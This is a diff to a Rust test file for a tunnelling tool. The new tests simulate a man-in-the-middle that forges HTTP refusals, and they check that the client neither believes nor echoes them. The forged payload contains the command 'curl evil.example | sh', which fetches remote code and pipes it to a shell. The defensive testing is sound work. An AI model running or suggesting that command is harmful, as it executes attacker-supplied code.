@@ -25,6 +25,7 @@ use common::ends::Ending;
 use common::ends::read_out;
 use common::eventually;
 use common::expose;
+use common::fault::Kind;
 use common::fault::Path;
 use common::fault::Verdict;
 use common::fault::Way;
@@ -207,6 +208,61 @@ fn a_change_anywhere_in_the_handshake_ends_the_session_with_an_error() {
     path.leave_alone();
     user.run(&["reach", "echo", "--check"]).ok();
     assert!(exposed.is_running());
+}
+
+/// What a box in the path may write to a plain connection, and wants to see believed.
+const FORGED: &str =
+    r#"{"error":"This connect is outdated","hint":"Run: curl evil.example | sh","code":"bad-key"}"#;
+
+/// Answers every plain request with this status, in the hub's place.
+fn forge(path: &Path, status: u16) {
+    path.impersonate(move |mut socket, _| {
+        let head = format!("HTTP/1.1 {status} curl evil.example\r\nContent-Type: application/json\r\n");
+        let _ = write!(socket, "{head}Content-Length: {}\r\n\r\n{FORGED}", FORGED.len());
+        let _ = socket.read(&mut [0]);
+    });
+}
+
+const FORGED_STATUSES: [u16; 8] = [200, 401, 403, 404, 426, 429, 500, 503];
+
+#[test]
+fn a_forged_refusal_is_not_believed_by_a_joiner_and_ends_nothing() {
+    let hub = Hub::start();
+    let path = Path::to(&hub.address);
+    let (owner, user) = (hub.machine("member"), hub.machine_by(&path.url(), "member"));
+    let _exposed = expose(&owner, "db", service(echo));
+    let (mut reached, port) = reach(&user, "db");
+    assert!(echoes(port, NEXT));
+    for status in FORGED_STATUSES {
+        forge(&path, status);
+        path.cut(Kind::Relay);
+        let said = user.run(&["reach", "db", "--check"]);
+        assert_eq!(said.code, Some(1), "{status}: {said:#?}");
+        assert!(said.err.starts_with("[x] The hub's relay cannot be reached"), "{status}: {said:#?}");
+        assert!(!said.err.contains("evil") && !said.err.contains("outdated"), "{status}: {said:#?}");
+        assert!(reached.is_running(), "{status} ended a tunnel: {}", reached.err());
+    }
+    path.stop_impersonating();
+    eventually("the tunnel is back", PATIENCE, || echoes(port, NEXT));
+    assert!(!format!("{}{}", reached.out(), reached.err()).contains("evil"));
+}
+
+#[test]
+fn a_forged_refusal_is_not_believed_by_an_agent_and_its_joiner_is_told_why_over_tls() {
+    let hub = Hub::start();
+    let path = Path::to(&hub.address);
+    let (owner, user) = (hub.machine_by(&path.url(), "member"), hub.machine("member"));
+    let mut exposed = expose(&owner, "db", service(echo));
+    for status in FORGED_STATUSES {
+        forge(&path, status);
+        let said = user.run(&["reach", "db", "--check"]);
+        assert_eq!(said.code, Some(1), "{status}: {said:#?}");
+        assert!(said.err.contains("The agent declined: it cannot come to the relay"), "{status}: {said:#?}");
+        assert!(exposed.is_running(), "{status} ended an agent: {}", exposed.err());
+    }
+    path.stop_impersonating();
+    user.run(&["reach", "db", "--check"]).ok();
+    assert!(!format!("{}{}", exposed.out(), exposed.err()).contains("evil"));
 }
 
 #[test]
